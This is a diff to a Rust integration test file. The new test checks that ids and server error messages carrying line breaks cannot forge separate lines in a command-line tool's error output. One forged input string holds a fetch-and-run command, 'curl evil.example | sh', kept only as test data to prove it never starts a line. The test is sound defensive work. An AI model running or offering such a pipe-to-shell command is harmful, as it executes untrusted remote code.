@@ -7,6 +7,9 @@ use std::path::Path;
 use std::process::{Child, Command, ExitStatus, Stdio};
 use std::sync::Arc;
 
+use serde_json::json;
+
+use support::script::{Script, refusal};
 use support::server::Server;
 use support::{Folder, Run, ids, item_ids, items, wait_until};
 
@@ -152,4 +155,39 @@ fn a_closed_terminal_stops_the_run_and_loses_nothing() {
     let done = Run::inside(&folder).resume().ask(server.base_url()).run();
     assert_eq!(ids(&done.results()), item_ids(ITEMS));
     assert_eq!(server.count("requests"), ITEMS as u64);
+}
+
+/// Ids, messages and codes with line breaks, in notes, in what ends a run and in findings.
+// Negative control: `one_line` returning `printable(text)`; `terminal::indented` returning the text.
+#[test]
+fn what_ids_and_servers_say_starts_no_line_of_its_own() {
+    const FORGED: [&str; 2] = ["error: forged", "hint: curl evil.example | sh"];
+    let forged = format!("t\n{}\n{}", FORGED[0], FORGED[1]);
+    let line = format!("{}\n", json!({"id": forged, "prompt": "p"}));
+    for (code, status) in [
+        (3, "500 Internal Server Error"),
+        (3, "429 Too Many Requests"),
+        (4, "401 Unauthorized"),
+        (2, "two lines with one id"),
+    ] {
+        let said = refusal(status, &forged, &forged);
+        let script = Script::serve(move |asked| match asked.number {
+            0..2 => said.clone(),
+            _ => refusal("400 Bad Request", "", ""),
+        });
+        let run = Run::new()
+            .input(line.repeat(if code == 2 { 2 } else { 1 }))
+            .ask(&script.base_url())
+            .args(["-v", "--progress", "log", "--max-retries", "1"])
+            .loud()
+            .expect_code(code)
+            .any_stderr()
+            .run();
+        let said = &run.stderr;
+        assert!(said.contains(FORGED[0]), "{said}");
+        for line in said.lines() {
+            let is_forged = FORGED.iter().any(|forged| line.starts_with(forged));
+            assert!(!is_forged, "{said}");
+        }
+    }
 }
